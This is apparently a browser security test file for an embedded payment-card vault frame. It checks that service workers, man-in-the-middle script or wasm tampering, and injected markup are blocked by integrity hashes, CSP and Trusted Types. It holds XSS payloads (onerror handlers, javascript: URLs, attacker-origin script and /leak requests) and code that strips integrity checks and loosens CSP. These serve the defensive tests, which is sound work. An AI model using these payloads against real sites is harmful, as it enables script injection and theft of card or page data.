// @ts-check
// Rows 33 to 35: service workers, and code that is replaced or injected on its way to the browser.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { until } from '../browser/support/wait.mjs';
import { SERVICE_WORKER } from './support/features.mjs';
import { allowScript, insertScript } from './support/middleman.mjs';
import { row } from './support/row.mjs';
import { useAttackScene } from './support/scene.mjs';
import { USES } from './support/victim.mjs';

describe('replaced code', () => {
  const scene = useAttackScene();

  row('33 a service worker of the page', ({ attack, control }) => {
    const REGISTER = `
      const done = arguments[0];
      navigator.serviceWorker.register("/sw.js");
      navigator.serviceWorker.addEventListener("controllerchange", () => done());
      if (navigator.serviceWorker.controller) done();`;
    const ASK = `
      const done = arguments[0];
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => done(data);
      navigator.serviceWorker.controller.postMessage(0, [port2]);`;
    const UNREGISTER = `
      const done = arguments[0];
      navigator.serviceWorker.getRegistrations().then((all) => Promise.all(all.map((r) => r.unregister()))).then(() => done());`;

    /**
     * @param {() => Promise<void>} act runs while the worker controls the page
     * @returns {Promise<string[]>} the addresses that the worker saw
     */
    async function watched(act) {
      const { driver } = scene;
      await scene.visit('/victim.html');
      await driver.executeAsyncScript(REGISTER);
      try {
        await act();
        await driver.switchTo().defaultContent();
        return await driver.executeAsyncScript(ASK);
      } finally {
        await driver.switchTo().defaultContent();
        await driver.executeAsyncScript(UNREGISTER);
      }
    }

    attack(
      'it sees no document of the frame, no wasm and no request to the API',
      async () => {
        const seen = await watched(async () => {
          const victim = await scene.viewedCard({ frameUrl: scene.middleman.frameUrl });
          await victim.reveal('number');
        });
        const { origin } = new URL(scene.addresses.app);
        assert.ok(
          seen.some((url) => url.endsWith('/victim.html')),
          'it controlled the page',
        );
        assert.deepEqual(
          seen.filter((url) => !url.startsWith(origin)),
          [],
        );
        assert.ok(
          scene.middleman.log().some((path) => path.endsWith('.wasm')),
          'the wasm was requested',
        );
      },
      SERVICE_WORKER,
    );
    control(
      'it sees frames and requests of the page itself',
      async () => {
        const { driver, addresses } = scene;
        const seen = await watched(async () => {
          await scene.embed(new URL('/plain.html', addresses.app).href);
          await driver.executeAsyncScript(
            'const [url, done] = arguments; fetch(url).then(() => done(), () => done());',
            `${addresses.api}?plain`,
          );
        });
        assert.ok(seen.some((url) => url.endsWith('/plain.html')));
        assert.ok(seen.some((url) => url === `${addresses.api}?plain`));
      },
      SERVICE_WORKER,
    );
  });

  row('34 script or wasm replaced on its way to the browser', ({ attack, control }) => {
    const EVIL = `;parent.postMessage({ evil: document.querySelector("meta[name='sordino:api']").content }, "*");`;

    /** @param {import("./support/victim.mjs").Victim} victim */
    const listen = (victim) =>
      victim.run(
        "window.evil = []; addEventListener('message', ({ data }) => { if (data?.evil) evil.push(data.evil); });",
      );
    const options = () => ({ ...USES.card, token: 'unused', frameUrl: scene.middleman.frameUrl });
    const isAsked = (/** @type {string} */ file) => () =>
      scene.middleman.log().some((path) => path.endsWith(file));

    attack("the vault's script does not run with an added line", async () => {
      scene.middleman.onFrame((passing) => {
        if (passing.path.endsWith('/vault.js')) passing.body += EVIL;
      });
      const victim = await scene.victimPage();
      await listen(victim);
      const end = await victim.openUnder(options(), isAsked('/vault.js'));
      assert.equal('error' in end && end.error.code, 'frame-unavailable');
      assert.deepEqual(await victim.run('return evil'), []);
    });
    attack('another valid wasm does not run', async () => {
      scene.middleman.onFrame((passing) => {
        if (!passing.path.endsWith('.wasm')) return;
        // Adds a custom section of one byte, which is valid and changes nothing but the hash.
        passing.body = Buffer.concat([
          Buffer.from(/** @type {Uint8Array} */ (passing.body)),
          Buffer.from([0, 2, 1, 120]),
        ]);
      });
      const victim = await scene.victimPage();
      const end = await victim.openUnder(options(), isAsked('.wasm'));
      assert.equal('error' in end && end.error.code, 'frame-unavailable');
    });
    control('without the hash, the added line runs', async () => {
      scene.middleman.onFrame((passing) => {
        if (passing.path.endsWith('/vault.js')) passing.body += EVIL;
        if (!passing.path.endsWith('/vault.html')) return;
        passing.body = String(passing.body).replace(/ integrity="?[^ ">]+"?/, '');
        // This header stops every script without a hash.
        delete passing.headers['integrity-policy'];
        const policy = passing.headers['content-security-policy'];
        passing.headers['content-security-policy'] = policy.replace(
          /script-src [^;]*/,
          "script-src 'self' 'wasm-unsafe-eval'",
        );
      });
      const victim = await scene.victimPage();
      await listen(victim);
      await victim.run('void victim.open(arguments[0])', options());
      await until('the script says so', async () => (await victim.run('return evil.length')) > 0);
    });
  });

  row("35 script injected into the frame's documents", ({ attack, control }) => {
    const EVIL = `parent.postMessage({ evil: location.pathname }, "*");`;
    const MARKUP = (/** @type {string} */ origin) =>
      `<base href="${origin}/"><img src="x:" onerror='${EVIL}'><form action="javascript:${EVIL.replaceAll('"', "'")}"></form>` +
      `<script src="${origin}/attack.js"></script><link rel="stylesheet" href="${origin}/leak?style"><object data="${origin}/leak?object"></object>` +
      `<iframe src="${origin}/frame.html"></iframe>`;
    const LISTEN =
      "window.evil = []; addEventListener('message', ({ data }) => { if (data?.evil) evil.push(data.evil); });";

    attack('the policy stops injected scripts, in vault and fields', async () => {
      const { origin } = scene.attacker;
      scene.middleman.onFrame((passing) => {
        if (!passing.path.endsWith('.html')) return;
        insertScript(passing, EVIL);
        passing.body = String(passing.body).replace('</html>', '') + MARKUP(origin);
      });
      const victim = await scene.victimPage();
      await victim.run(LISTEN);
      await victim.open({
        ...USES.card,
        token: 'unused',
        frameUrl: scene.middleman.frameUrl,
        session: { timeout: 3_000 },
      });
      await scene.settle();
      assert.deepEqual(await victim.run('return evil'), []);
      assert.doesNotMatch(scene.attacker.log(), /leak\?|frame\.html|attack\.js|vault\.js/);
    });
    attack(
      'Trusted Types or the policy stop markup that DOM injection turns into a script',
      async () => {
        const victim = await scene.victim('card', { frameUrl: scene.middleman.frameUrl });
        await victim.run(LISTEN);
        // Runs scripts in both documents, as a flaw in the vault would.
        for (const run of [
          (/** @type {string} */ script) => victim.insideVault(script),
          (/** @type {string} */ script) => victim.inside('number', script),
        ]) {
          await run(
            // Acts later, outside of the driver's script, because the driver may do what the policy
            // forbids.
            `const act = (deed) => setTimeout(() => { try { deed(); } catch {} });
          const evil = ${JSON.stringify(EVIL)};
          act(() => document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='" + evil + "'>"));
          act(() => { const s = document.createElement("script"); s.text = evil; document.documentElement.append(s); });
          act(() => { const s = document.createElement("script"); s.src = "data:text/javascript," + encodeURIComponent(evil); document.documentElement.append(s); });
          act(() => window.setTimeout(evil));
          act(() => window.Function(evil)());
          act(() => { location.href = "javascript:" + evil; });`,
          );
        }
        await scene.settle();
        assert.deepEqual(await victim.run('return evil'), []);
      },
    );
    control('an allowed script runs', async () => {
      scene.middleman.onFrame((passing) => {
        if (passing.path.endsWith('.html')) allowScript(passing, EVIL);
      });
      const victim = await scene.victimPage();
      await victim.run(LISTEN);
      await victim.open({ ...USES.card, token: 'unused', frameUrl: scene.middleman.frameUrl });
      await until('vault and field say so', async () => {
        const evil = /** @type {string[]} */ (await victim.run('return evil'));
        return (
          evil.some((path) => path.endsWith('/vault.html')) &&
          evil.some((path) => path.endsWith('/field.html'))
        );
      });
    });
  });
});
